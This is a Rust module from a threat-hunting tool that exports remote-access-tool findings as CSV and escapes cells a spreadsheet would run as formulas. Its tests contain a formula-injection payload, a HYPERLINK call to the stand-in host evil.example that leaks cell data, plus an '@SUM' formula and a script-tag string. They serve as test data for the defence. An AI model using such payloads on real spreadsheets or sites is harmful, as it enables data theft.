//! `--format csv`: one record per finding. The columns are `rule_id, rule_name, tool, tactics,
//! techniques`, then the union of every rule's result columns in order of first appearance
//! (pack order), so the header is the same for the same pack and data. A finding leaves the
//! columns its rule does not return empty. Tactics and techniques are joined with `;`. Cells
//! are spelled and quoted as `quarry query --format csv` does (RFC 4180), except that a text
//! cell a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, tab or carriage
//! return: command lines and URLs are attacker-controlled) gets a leading `'`, as OWASP
//! advises for CSV exports.

use std::collections::HashMap;
use std::io::{self, Write};

use super::model::Analysis;
use crate::results::csv::write_field;
use crate::results::value::to_display;

const RULE_COLUMNS: [&str; 5] = ["rule_id", "rule_name", "tool", "tactics", "techniques"];

pub fn write(analysis: &Analysis<'_>, out: &mut dyn Write) -> io::Result<()> {
    let columns = analysis.columns();
    let position: HashMap<&str, usize> = columns.iter().enumerate().map(|(i, c)| (c.as_str(), i)).collect();
    let header = RULE_COLUMNS.iter().copied().chain(columns.iter().map(String::as_str));
    write_record(out, header)?;
    let mut cells = vec![String::new(); columns.len()];
    for finding in &analysis.findings {
        let rule = &finding.run.rule;
        cells.iter_mut().for_each(String::clear);
        for (field, column) in finding.batch.schema().fields().iter().zip(finding.batch.columns()) {
            if let Some(&i) = position.get(field.name().as_str()) {
                cells[i] = to_display(column.as_ref(), finding.row);
                if is_text(field.data_type()) && starts_like_a_formula(&cells[i]) {
                    cells[i].insert(0, '\'');
                }
            }
        }
        let tactics = rule.tactics.join(";");
        let techniques = rule.techniques.join(";");
        let leading = [
            rule.id.as_str(),
            rule.name.as_str(),
            rule.tool.as_deref().unwrap_or(""),
            tactics.as_str(),
            techniques.as_str(),
        ];
        write_record(out, leading.into_iter().chain(cells.iter().map(String::as_str)))?;
    }
    Ok(())
}

fn is_text(data_type: &arrow::datatypes::DataType) -> bool {
    use arrow::datatypes::DataType;
    matches!(data_type, DataType::Utf8 | DataType::Utf8View | DataType::LargeUtf8)
}

/// Whether a spreadsheet would read `text` as a formula.
fn starts_like_a_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn write_record<'a>(out: &mut dyn Write, fields: impl Iterator<Item = &'a str>) -> io::Result<()> {
    for (i, field) in fields.enumerate() {
        if i > 0 {
            out.write_all(b",")?;
        }
        // Never the only field (there are always five rule columns), so empty stays unquoted.
        write_field(out, field, false)?;
    }
    out.write_all(b"\n")
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use arrow::array::{ArrayRef, StringArray};

    use super::super::test_support::*;
    use super::super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_are_defused() {
        let mut report = sample_report();
        let evil = r#"=HYPERLINK("http://evil.example/"&A1)"#;
        let files = batch(vec![
            ("SHA256", Arc::new(StringArray::from(vec!["@SUM(1+1)", "a1b2"])) as ArrayRef),
            ("FileName", Arc::new(StringArray::from(vec![evil, "-x.exe"])) as ArrayRef),
            ("Count", Arc::new(arrow::array::Int64Array::from(vec![-1, 2])) as ArrayRef),
        ]);
        report.rules[3].batches = vec![files];
        let mut out = Vec::new();
        render(&report, HuntFormat::Csv, &mut out, &RenderOptions::default()).unwrap();
        let text = String::from_utf8(out).unwrap();
        let files: Vec<&str> = text.lines().filter(|l| l.starts_with("rmm-anydesk-files")).collect();
        assert_eq!(files.len(), 2, "{text}");
        assert!(files[0].ends_with(r#",-1,,,,'@SUM(1+1),"'=HYPERLINK(""http://evil.example/""&A1)""#), "{}", files[0]);
        assert!(files[1].ends_with(",2,,,,a1b2,'-x.exe"), "{}", files[1]);
    }

    #[test]
    fn header_rows_and_quoting() {
        let text = rendered(HuntFormat::Csv, &RenderOptions::default());
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(
            lines[0],
            "rule_id,rule_name,tool,tactics,techniques,DeviceId,DeviceName,FirstSeen,LastSeen,Count,Report,\
             ProcessCommandLine,Timestamp,SHA256,FileName"
        );
        assert_eq!(lines.len(), 7, "{text}");
        assert_eq!(
            lines[1],
            "rmm-anydesk,AnyDesk execution,AnyDesk,CommandAndControl,T1219,aaa111,host-a.contoso.local,\
             2024-04-21T00:00:00.1234567Z,2024-04-29T00:00:00Z,5,\"[\"\"r1\"\",\"\"r2\"\"]\",,,,"
        );
        // A comma and quotes in a command line: quoted, quotes doubled.
        assert_eq!(
            lines[3],
            "rmm-screenconnect,ScreenConnect execution,ScreenConnect,CommandAndControl,T1219,,host-a.contoso.local,\
             2024-04-26T00:00:00Z,2024-04-26T01:00:00Z,1,,\
             \"ScreenConnect.ClientService.exe \"\"<script>alert(1)</script>\"\", -e\",,,"
        );
        assert_eq!(
            lines[4],
            "rmm-pulseway,Pulseway execution,Pulseway,CommandAndControl,T1219,,HOST-B.contoso.local,,,,,,2024-04-27T00:00:00Z,,"
        );
        assert_eq!(
            lines[6],
            "rmm-anydesk-files,AnyDesk files,AnyDesk,CommandAndControl,T1219,,,,,,,,,a1b2,anydesk (1).exe"
        );
        // Every record has the header's number of fields (no field here holds a newline).
        for line in &lines {
            let mut fields = 1;
            let mut quoted = false;
            for c in line.chars() {
                match c {
                    '"' => quoted = !quoted,
                    ',' if !quoted => fields += 1,
                    _ => {}
                }
            }
            assert_eq!(fields, 15, "{line}");
        }
    }

    #[test]
    fn several_tactics_are_joined() {
        let mut report = sample_report();
        let mut rule = (*report.rules[0].rule).clone();
        rule.tactics.push("Persistence".to_owned());
        rule.techniques.push("T1133".to_owned());
        report.rules[0].rule = std::sync::Arc::new(rule);
        let mut out = Vec::new();
        render(&report, HuntFormat::Csv, &mut out, &RenderOptions::default()).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.lines()
                .nth(1)
                .unwrap()
                .starts_with("rmm-anydesk,AnyDesk execution,AnyDesk,CommandAndControl;Persistence,T1219;T1133,")
        );
    }
}
